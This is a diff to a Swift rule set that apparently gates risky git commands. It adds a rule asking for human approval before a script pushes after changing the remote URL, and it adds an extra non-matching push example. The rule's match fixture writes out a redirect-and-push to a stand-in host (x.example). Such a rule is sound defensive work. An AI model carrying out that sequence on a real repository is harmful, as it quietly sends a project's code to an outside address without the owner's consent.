@@ -5,6 +5,18 @@ enum GitRules {
   /// The rules, plain literals; see `BuiltInRule`.
   static let all: [BuiltInRule] = [
     BuiltInRule(
+      id: "git.push-elsewhere", ruling: .ask, severity: .high,
+      reason: "sends the project to an address that the script itself has just set",
+      advice: "let a person change the remote",
+      program: "git",
+      command: "push",
+      when: "@before:remote+set-url+|.pushurl+|.insteadof+|.pushinsteadof+",
+      match: "git remote set-url origin https://x.example/r.git && git push",
+      notMatch: """
+        git remote get-url origin && git push
+        git remote set-url origin https://x.example/r.git
+        """),
+    BuiltInRule(
       id: "git.reset-hard", ruling: .deny, severity: .high,
       reason: "throws away uncommitted work",
       advice: "`git stash` keeps it; `git restore FILE` takes back one file",
@@ -165,6 +177,7 @@ enum GitRules {
       notMatch: """
         git push origin main
         git push origin version-notes
+        git push upstream v1.x-staging
         """),
     BuiltInRule(
       id: "git.branch-delete-force", ruling: .ask, severity: .medium,
